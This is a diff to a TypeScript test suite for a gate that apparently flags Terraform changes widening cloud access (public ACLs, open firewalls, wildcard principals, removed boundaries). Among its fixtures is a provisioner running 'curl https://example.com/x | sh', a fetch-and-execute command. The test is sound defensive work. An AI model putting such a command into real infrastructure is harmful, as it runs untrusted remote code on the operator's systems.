@@ -348,6 +348,188 @@ const PAIRS: [string, Json, Json, Json][] = [
     const cfg = (ingress: string) => ({ resource: { google_cloud_run_v2_service: { S: { name: "s", location: "europe-west1", ingress, template: {} } } } });
     return ["Cloud Run ingress", cfg("INGRESS_TRAFFIC_INTERNAL_LOAD_BALANCER"), cfg("INGRESS_TRAFFIC_ALL"), cfg("INGRESS_TRAFFIC_INTERNAL_ONLY")] as [string, Json, Json, Json];
   })(),
+  // --- resource policies the catalog describes (read through the model, whatever the type) ---
+  (() => {
+    const cfg = (principal: unknown) => ({
+      resource: {
+        aws_dynamodb_table: { T: { name: "t", hash_key: "id" } },
+        aws_dynamodb_resource_policy: { P: { resource_arn: "${aws_dynamodb_table.T.arn}", policy: policy(allow("dynamodb:GetItem", "${aws_dynamodb_table.T.arn}", { Principal: principal })) } },
+      },
+    });
+    return ["DynamoDB resource policy principal", cfg({ AWS: ["arn:aws:iam::111111111111:root", "arn:aws:iam::222222222222:root"] }), cfg("*"), cfg({ AWS: "arn:aws:iam::111111111111:role/reader" })] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (condition: Json | undefined) => ({
+      resource: {
+        aws_cloudwatch_event_bus: { B: { name: "orders" } },
+        aws_cloudwatch_event_bus_policy: {
+          P: { event_bus_name: "${aws_cloudwatch_event_bus.B.name}", policy: policy(allow("events:PutEvents", "${aws_cloudwatch_event_bus.B.arn}", { Principal: "*", ...(condition ? { Condition: condition } : {}) })) },
+        },
+      },
+    });
+    const org = (ids: string[]) => ({ StringEquals: { "aws:PrincipalOrgID": ids } });
+    return ["EventBridge bus policy organization condition", cfg(org(["o-aaa", "o-bbb"])), cfg(undefined), cfg(org(["o-aaa"]))] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (extra: Json) => ({ resource: { aws_cloudwatch_event_permission: { P: { statement_id: "s", event_bus_name: "orders", ...extra } } } });
+    const org = { condition: { key: "aws:PrincipalOrgID", type: "StringEquals", value: "o-aaa" } };
+    // Narrowing twin: everyone in the organization becomes one account of it.
+    return ["EventBridge bus permission", cfg({ principal: "*", ...org }), cfg({ principal: "*" }), cfg({ principal: "111111111111", ...org })] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (condition: Json | undefined) => ({
+      resource: {
+        aws_api_gateway_rest_api: { A: { name: "a" } },
+        aws_api_gateway_rest_api_policy: {
+          P: { rest_api_id: "${aws_api_gateway_rest_api.A.id}", policy: policy(allow("execute-api:Invoke", "${aws_api_gateway_rest_api.A.execution_arn}/*", { Principal: "*", ...(condition ? { Condition: condition } : {}) })) },
+        },
+      },
+    });
+    const ips = (cidrs: string[]) => ({ IpAddress: { "aws:SourceIp": cidrs } });
+    return ["REST API policy source IP condition", cfg(ips(["10.0.0.0/8"])), cfg(undefined), cfg(ips(["10.1.0.0/16"]))] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (principal: string, org?: string) => ({ resource: { aws_lambda_layer_version_permission: { P: { layer_name: "l", version_number: 1, statement_id: "s", action: "lambda:GetLayerVersion", principal, ...(org ? { organization_id: org } : {}) } } } });
+    return ["Lambda layer permission organization dropped", cfg("*", "o-aaa"), cfg("*"), cfg("111111111111", "o-aaa")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    // The provider's merge: an override statement replaces the source statement with its Sid.
+    const cfg = (override: Json) => ({
+      data: {
+        aws_iam_policy_document: {
+          Src: { statement: [{ sid: "Objects", effect: "Allow", actions: ["s3:*"], resources: [`${BUCKET}/*`] }] },
+          Ovr: { statement: [override] },
+          Doc: { source_policy_documents: ["${data.aws_iam_policy_document.Src.json}"], override_policy_documents: ["${data.aws_iam_policy_document.Ovr.json}"] },
+        },
+      },
+      resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${data.aws_iam_policy_document.Doc.json}" } } },
+    });
+    const read = (sid: string, resource: string) => ({ sid, effect: "Allow", actions: ["s3:GetObject"], resources: [resource] });
+    // Wider: the override gets another Sid, so the source's s3:* is no longer replaced.
+    return ["source/override policy documents merged by Sid", cfg(read("Objects", `${BUCKET}/*`)), cfg(read("Reads", `${BUCKET}/*`)), cfg(read("Objects", `${BUCKET}/reports/*`))] as [string, Json, Json, Json];
+  })(),
+  // --- ACLs, entry by entry ---
+  (() => {
+    const cfg = (acl: string) => ({ resource: { aws_s3_bucket: { B: { bucket: "b" } }, aws_s3_bucket_acl: { A: { bucket: "${aws_s3_bucket.B.id}", acl } } } });
+    return ["S3 canned ACL", cfg("public-read"), cfg("public-read-write"), cfg("private")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const group = (name: string) => ({ grantee: { type: "Group", uri: `http://acs.amazonaws.com/groups/global/${name}` }, permission: "READ" });
+    const cfg = (grants: Json[]) => ({
+      resource: { aws_s3_bucket: { B: { bucket: "b" } }, aws_s3_bucket_acl: { A: { bucket: "${aws_s3_bucket.B.id}", access_control_policy: { owner: { id: "o" }, grant: [{ grantee: { type: "CanonicalUser", id: "o" }, permission: "FULL_CONTROL" }, ...grants] } } } },
+    });
+    return ["S3 ACL grants", cfg([{ grantee: { type: "CanonicalUser", id: "partner" }, permission: "READ" }]), cfg([{ grantee: { type: "CanonicalUser", id: "partner" }, permission: "READ" }, group("AllUsers")]), cfg([])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (acl: string) => ({ resource: { aws_s3_object: { O: { bucket: "b", key: "k", acl } } } });
+    return ["S3 object ACL", cfg("private"), cfg("public-read"), cfg("private")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (entities: string[]) => ({ resource: { google_storage_bucket_acl: { A: { bucket: "b", role_entity: ["OWNER:project-owners-1", ...entities] } } } });
+    return ["GCS bucket ACL role entities", cfg(["READER:group-a@example.com"]), cfg(["READER:group-a@example.com", "READER:allUsers"]), cfg([])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (predefined: string) => ({ resource: { google_storage_object_acl: { A: { bucket: "b", object: "o", predefined_acl: predefined } } } });
+    return ["GCS predefined object ACL", cfg("private"), cfg("publicRead"), cfg("private")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (entity: string, role: string) => ({ resource: { google_storage_bucket_access_control: { A: { bucket: "b", entity, role } } } });
+    return ["GCS bucket access control role", cfg("group-a@example.com", "WRITER"), cfg("group-a@example.com", "OWNER"), cfg("group-a@example.com", "READER")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (entities: Json) => ({ resource: { google_storage_object_access_control: entities } });
+    const entry = (entity: string) => ({ bucket: "b", object: "o", entity, role: "READER" });
+    return ["GCS object access control to the public", cfg({ A: entry("group-a@example.com") }), cfg({ A: entry("group-a@example.com"), P: entry("allUsers") }), cfg({})] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (entities: string[]) => ({ resource: { google_storage_default_object_acl: { A: { bucket: "b", role_entity: entities } } } });
+    return ["GCS default object ACL", cfg(["WRITER:group-a@example.com"]), cfg(["WRITER:group-a@example.com", "READER:allUsers"]), cfg(["READER:group-a@example.com"])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (ownership: string) => ({ resource: { aws_s3_bucket: { B: { bucket: "b" } }, aws_s3_bucket_ownership_controls: { C: { bucket: "${aws_s3_bucket.B.id}", rule: { object_ownership: ownership } } } } });
+    return ["S3 ACLs turned back on (object ownership)", cfg("BucketOwnerEnforced"), cfg("ObjectWriter"), cfg("BucketOwnerEnforced")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (prevention: string) => ({ resource: { google_storage_bucket: { B: { name: "b", location: "EU", uniform_bucket_level_access: true, public_access_prevention: prevention } } } });
+    return ["GCS public access prevention lifted", cfg("enforced"), cfg("inherited"), cfg("enforced")] as [string, Json, Json, Json];
+  })(),
+  // --- network rules beyond security groups ---
+  (() => {
+    const cfg = (ranges: string[]) => ({ resource: { google_compute_firewall: { F: { name: "f", network: "vpc", source_ranges: ranges, allow: [{ protocol: "tcp", ports: ["443"] }] } } } });
+    return ["GCP firewall source range", cfg(["10.0.0.0/16"]), cfg(["0.0.0.0/0"]), cfg(["10.0.1.0/24"])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (ports: string[]) => ({ resource: { google_compute_firewall: { F: { name: "f", network: "vpc", source_ranges: ["10.0.0.0/16"], target_tags: ["web"], allow: [{ protocol: "tcp", ports }] } } } });
+    return ["GCP firewall ports", cfg(["8000-8080"]), cfg(["0-65535"]), cfg(["8080"])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (source: Json) => ({ resource: { google_compute_firewall: { F: { name: "f", network: "vpc", allow: [{ protocol: "tcp", ports: ["22"] }], ...source } } } });
+    // No source at all: Google applies the rule to every address.
+    return ["GCP firewall losing its sources", cfg({ source_tags: ["bastion"] }), cfg({}), cfg({ source_tags: ["bastion"], target_tags: ["db"] })] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (deny: Json | undefined) => ({
+      resource: {
+        google_compute_firewall: {
+          Allow: { name: "allow", network: "vpc", source_ranges: ["0.0.0.0/0"], allow: [{ protocol: "tcp", ports: ["443"] }] },
+          Block: { name: "block", network: "vpc", source_ranges: ["0.0.0.0/0"], deny: deny ? [deny] : [{ protocol: "tcp", ports: ["22"] }], ...(deny ? {} : { disabled: true }) },
+        },
+      },
+    });
+    return ["GCP firewall deny rule switched off", cfg({ protocol: "tcp", ports: ["22"] }), cfg(undefined), cfg({ protocol: "all" })] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (cidr: string) => ({
+      resource: {
+        aws_network_acl: { N: { vpc_id: "vpc-1" } },
+        aws_network_acl_rule: { R: { network_acl_id: "${aws_network_acl.N.id}", rule_number: 100, egress: false, protocol: "tcp", rule_action: "allow", cidr_block: cidr, from_port: 443, to_port: 443 } },
+      },
+    });
+    return ["network ACL rule CIDR", cfg("10.0.0.0/16"), cfg("0.0.0.0/0"), cfg("10.0.1.0/24")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (rules: Json[]) => ({ resource: { aws_network_acl: { N: { vpc_id: "vpc-1", ingress: rules } } } });
+    const deny = (from: number, to: number) => ({ protocol: "tcp", rule_no: 100, action: "deny", cidr_block: "0.0.0.0/0", from_port: from, to_port: to });
+    const web = { protocol: "tcp", rule_no: 200, action: "allow", cidr_block: "0.0.0.0/0", from_port: 443, to_port: 443 };
+    return ["network ACL deny narrowed", cfg([deny(22, 23), web]), cfg([deny(23, 23), web]), cfg([deny(0, 1024), web])] as [string, Json, Json, Json];
+  })(),
+  // --- BigQuery ---
+  (() => {
+    const cfg = (access: Json[]) => ({ resource: { google_bigquery_dataset: { D: { dataset_id: "ds", access: [{ role: "OWNER", group_by_email: "owners@example.com" }, ...access] } } } });
+    return ["BigQuery dataset access blocks", cfg([{ role: "READER", user_by_email: "a@example.com" }]), cfg([{ role: "READER", user_by_email: "a@example.com" }, { role: "READER", special_group: "allAuthenticatedUsers" }]), cfg([])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (access: Json[]) => ({ resource: { google_bigquery_dataset: { D: { dataset_id: "ds", access } } } });
+    const view = (table: string) => ({ view: { project_id: "p", dataset_id: "reporting", table_id: table } });
+    return ["BigQuery authorized view", cfg([view("daily")]), cfg([view("daily"), view("raw_everything")]), cfg([])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (entries: Json) => ({ resource: { google_bigquery_dataset: { D: { dataset_id: "ds" } }, google_bigquery_dataset_access: entries } });
+    const entry = (role: string, member: Json) => ({ dataset_id: "${google_bigquery_dataset.D.dataset_id}", role, ...member });
+    return ["google_bigquery_dataset_access", cfg({ A: entry("READER", { user_by_email: "a@example.com" }) }), cfg({ A: entry("READER", { user_by_email: "a@example.com" }), B: entry("READER", { iam_member: "allUsers" }) }), cfg({})] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (members: string[]) => ({ resource: { google_bigquery_dataset_iam_binding: { B: { dataset_id: "ds", role: "roles/bigquery.dataViewer", members } } } });
+    return ["BigQuery dataset IAM binding", cfg(["group:a@example.com"]), cfg(["group:a@example.com", "allAuthenticatedUsers"]), cfg([])] as [string, Json, Json, Json];
+  })(),
+  // --- memberships, boundaries, custom roles ---
+  (() => {
+    const cfg = (users: string[]) => ({ resource: { aws_iam_group: { G: { name: "admins" } }, aws_iam_group_membership: { M: { name: "m", group: "${aws_iam_group.G.name}", users } } } });
+    return ["IAM group membership", cfg(["alice"]), cfg(["alice", "mallory"]), cfg([])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (boundary: string | undefined, description = "r") => ({ resource: { aws_iam_role: { R: { ...role().R, description, ...(boundary ? { permissions_boundary: boundary } : {}) } } } });
+    const boundary = "arn:aws:iam::111111111111:policy/boundary";
+    return ["permissions boundary removed from a role that stays", cfg(boundary), cfg(undefined), cfg(boundary, "renamed")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (permissions: string[]) => ({ resource: { google_project_iam_custom_role: { C: { project: "p", role_id: "deployer", title: "d", permissions } } } });
+    return ["GCP custom role permissions", cfg(["run.services.get", "run.services.update"]), cfg(["run.services.get", "run.services.update", "iam.serviceAccounts.actAs"]), cfg(["run.services.get"])] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (ingress: string | undefined) => ({ resource: { google_cloud_run_service: { S: { name: "s", location: "europe-west1", metadata: { annotations: ingress ? { "run.googleapis.com/ingress": ingress } : {} }, template: {} } } } });
+    return ["Cloud Run (v1) ingress annotation", cfg("internal-and-cloud-load-balancing"), cfg(undefined), cfg("internal")] as [string, Json, Json, Json];
+  })(),
 ];
 
 /** Forms whose widening is a move: moving back widens the first target again. */
@@ -372,40 +554,112 @@ describe.each(PAIRS)("%s", (_form, base, wider, narrower) => {
   });
 });
 
-/** Values the JSON does not tell: each pair widens in a way that depends on them. */
-const UNKNOWN: [string, Json, Json][] = [
+/**
+ * Default deny: what the model cannot read, or the catalog does not know. [form, base, head that
+ * may broaden, safe twin]: the head trips the gate as "may broaden" (nothing in it is known to be
+ * broadening); the twin, with the same value written where the model can read it (or no change at
+ * all in what cannot be read), passes.
+ */
+const UNKNOWN: [string, Json, Json, Json][] = [
   (() => {
-    const cfg = (resource: string) => ({ resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", resource)) } } } });
-    return ["a variable in a policy resource", cfg(`${BUCKET}/*`), cfg("${var.bucket_arn}/*")] as [string, Json, Json];
+    const cfg = (resource: string, extra: Json = {}) => ({ ...extra, resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", resource)) } } } });
+    return ["a variable in a policy resource", cfg(`${BUCKET}/*`), cfg("${var.bucket_arn}/*", { variable: { bucket_arn: { default: BUCKET } } }), cfg(`${BUCKET}/reports/*`)] as [string, Json, Json, Json];
   })(),
-  ["a policy built by a function", { resource: { aws_iam_role: role() } }, { resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${jsonencode(local.policy)}" } } } }],
   (() => {
-    const cfg = (principal: string) => ({
-      resource: {
-        aws_lambda_function: { F: { function_name: "f" } },
-        aws_lambda_permission: { P: { action: "lambda:InvokeFunction", function_name: "${aws_lambda_function.F.function_name}", principal } },
-      },
+    const statement = allow("s3:GetObject", `${BUCKET}/*`);
+    const base = { resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(statement) } } } };
+    const viaLocal = (locals: Json | undefined) => ({ ...(locals ? { locals } : {}), resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${jsonencode(local.policy)}" } } } });
+    // The twin: the local holds the same policy, which the model folds.
+    return ["a policy built by a function of a value it cannot read", base, viaLocal(undefined), viaLocal({ policy: { Version: "2012-10-17", Statement: [statement] } })] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (principal: string, locals?: Json) => ({
+      ...(locals ? { locals } : {}),
+      resource: { aws_lambda_function: { F: { function_name: "f" } }, aws_lambda_permission: { P: { action: "lambda:InvokeFunction", function_name: "${aws_lambda_function.F.function_name}", principal } } },
     });
-    return ["a local as a Lambda permission principal", cfg("events.amazonaws.com"), cfg("${local.invoker}")] as [string, Json, Json];
+    return ["a local it cannot read as a Lambda permission principal", cfg("events.amazonaws.com"), cfg("${local.invoker}"), cfg("${local.invoker}", { invoker: "events.amazonaws.com" })] as [string, Json, Json, Json];
   })(),
   (() => {
-    const cfg = (cidr: string) => ({ resource: { aws_security_group: { G: { name: "g", vpc_id: "vpc-1", ingress: [{ protocol: "tcp", from_port: 443, to_port: 443, cidr_blocks: [cidr] }] } } } });
-    return ["a variable as a CIDR", cfg("10.0.0.0/16"), cfg("${var.allowed_cidr}")] as [string, Json, Json];
+    const cfg = (cidr: string, extra: Json = {}) => ({ ...extra, resource: { aws_security_group: { G: { name: "g", vpc_id: "vpc-1", ingress: [{ protocol: "tcp", from_port: 443, to_port: 443, cidr_blocks: [cidr] }] } } } });
+    return ["a variable as a CIDR", cfg("10.0.0.0/16"), cfg("${var.allowed_cidr}", { variable: { allowed_cidr: { default: "10.0.0.0/16" } } }), cfg("10.0.2.0/24")] as [string, Json, Json, Json];
   })(),
   (() => {
     const cfg = (auth: string) => ({ resource: { aws_lambda_function: { F: { function_name: "f" } }, aws_lambda_function_url: { U: { function_name: "${aws_lambda_function.F.function_name}", authorization_type: auth } } } });
-    return ["a variable as a function URL's auth", cfg("AWS_IAM"), cfg("${var.url_auth}")] as [string, Json, Json];
+    return ["a variable as a function URL's auth", cfg("AWS_IAM"), cfg("${var.url_auth}"), cfg("AWS_IAM")] as [string, Json, Json, Json];
   })(),
   (() => {
     const cfg = (member: string) => ({ resource: { google_project_iam_member: { M: { project: "p", role: "roles/viewer", member } } } });
-    return ["a variable as a GCP member", cfg("user:a@example.com"), cfg("${var.viewer}")] as [string, Json, Json];
+    return ["a variable as a GCP member", cfg("user:a@example.com"), cfg("${var.viewer}"), cfg("user:a@example.com")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (defaultArn: string, description = "r") => ({
+      variable: { reports: { default: defaultArn } },
+      resource: { aws_iam_role: { R: { ...role().R, description } }, aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", "${var.reports}")) } } },
+    });
+    // Only the variable's default changes: the policy reads it, so it may widen.
+    return ["a variable's default that a policy reads, widened", cfg(`${BUCKET}/reports/*`), cfg("*"), cfg(`${BUCKET}/reports/*`, "another description")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (bucket: string) => ({ data: { terraform_remote_state: { net: { backend: "s3", config: { bucket: "state", key: "net" } } } }, resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(allow("s3:GetObject", bucket)) } } } });
+    return ["another stack's output in a policy", cfg(`${BUCKET}/*`), cfg("${data.terraform_remote_state.net.outputs.bucket_arn}"), cfg(`${BUCKET}/reports/*`)] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const statement = { effect: "Allow", actions: ["s3:GetObject"], resources: [`${BUCKET}/*`] };
+    const cfg = (document: Json, extra: Json = {}) => ({
+      ...extra,
+      data: { aws_iam_policy_document: { D: document } },
+      resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: "${data.aws_iam_policy_document.D.json}" } } },
+    });
+    const dynamic = (forEach: unknown) => ({ dynamic: { statement: { for_each: forEach, content: { effect: "Allow", actions: ["${statement.value}"], resources: [`${BUCKET}/*`] } } } });
+    // The twin: the same statement from a dynamic block over a list the model knows.
+    return ["a dynamic statement over a list only Terraform knows", cfg({ statement: [statement] }), cfg(dynamic("${var.actions}"), { variable: { actions: { default: ["s3:GetObject"] } } }), cfg(dynamic(["s3:GetObject"]))] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const statement = allow("s3:GetObject", `${BUCKET}/*`);
+    const cfg = (policyValue: string, data: Json) => ({ data, resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policyValue } } } });
+    const base = { resource: { aws_iam_role: role(), aws_iam_role_policy: { P: { role: "${aws_iam_role.R.id}", policy: policy(statement) } } } };
+    return [
+      "a policy read from a data source that reads the cloud",
+      base,
+      cfg("${data.aws_iam_policy.Admin.policy}", { aws_iam_policy: { Admin: { name: "AdministratorAccess" } } }),
+      cfg("${data.aws_iam_policy_document.D.json}", { aws_iam_policy_document: { D: { statement: [{ effect: "Allow", actions: ["s3:GetObject"], resources: [`${BUCKET}/*`] }] } } }),
+    ] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (module: Json | undefined) => ({ ...(module ? { module: { Net: module } } : {}), resource: { aws_iam_role: role() } });
+    return ["a module call (TerraformHclModule) that changes", cfg({ source: "./modules/net", version: "1.0.0" }), cfg({ source: "./modules/net", version: "2.0.0" }), cfg(undefined)] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (provisioner: Json | undefined, description = "r") => ({ resource: { aws_iam_role: { R: { ...role().R, description, ...(provisioner ? { provisioner } : {}) } } } });
+    return ["a provisioner added to a resource", cfg(undefined), cfg([{ "local-exec": { command: "curl https://example.com/x | sh" } }]), cfg(undefined, "another description")] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (data: Json | undefined) => ({ ...(data ? { data } : {}), resource: { aws_iam_role: role() } });
+    return ["an external data source (runs a program at plan)", cfg(undefined), cfg({ external: { X: { program: ["python3", "x.py"] } } }), cfg(undefined)] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (resource: Json) => ({ resource: { aws_iam_role: role(), ...resource } });
+    return ["a type the catalog does not describe, with a policy", cfg({}), cfg({ aws_example_widget_policy: { W: { policy: policy(allow("s3:*", "*")) } } }), cfg({})] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (resource: Json) => ({ resource: { aws_iam_role: role(), ...resource } });
+    return ["a type the catalog does not describe, without anything that looks like a grant", cfg({}), cfg({ aws_example_widget: { W: { size: 3 } } }), cfg({})] as [string, Json, Json, Json];
+  })(),
+  (() => {
+    const cfg = (ranges: string[]) => ({ resource: { google_compute_firewall_policy_rule: { R: { firewall_policy: "p", priority: 1000, direction: "INGRESS", action: "allow", match: { src_ip_ranges: ranges, layer4_configs: [{ ip_protocol: "tcp" }] } } } } });
+    // A type the catalog knows but the review does not compare rule by rule: a change may broaden.
+    return ["a firewall policy rule (read as a whole) that changes", cfg(["10.0.0.0/8"]), cfg(["10.0.0.0/8", "0.0.0.0/0"]), cfg(["10.0.0.0/8"])] as [string, Json, Json, Json];
   })(),
 ];
 
-describe.each(UNKNOWN)("may broaden: %s", (_form, base, head) => {
+describe.each(UNKNOWN)("may broaden: %s", (_form, base, head, twin) => {
   it("Noncompliance: is marked may broaden and fails the gate", () => {
     const items = gate(base, head);
     expect(items.length).toBeGreaterThan(0);
     expect(items.every((i) => i.kind === "may-broaden")).toBe(true);
+  });
+
+  it("Compliance: the twin, readable or unchanged, passes", () => {
+    expect(gate(base, twin)).toEqual([]);
   });
 });
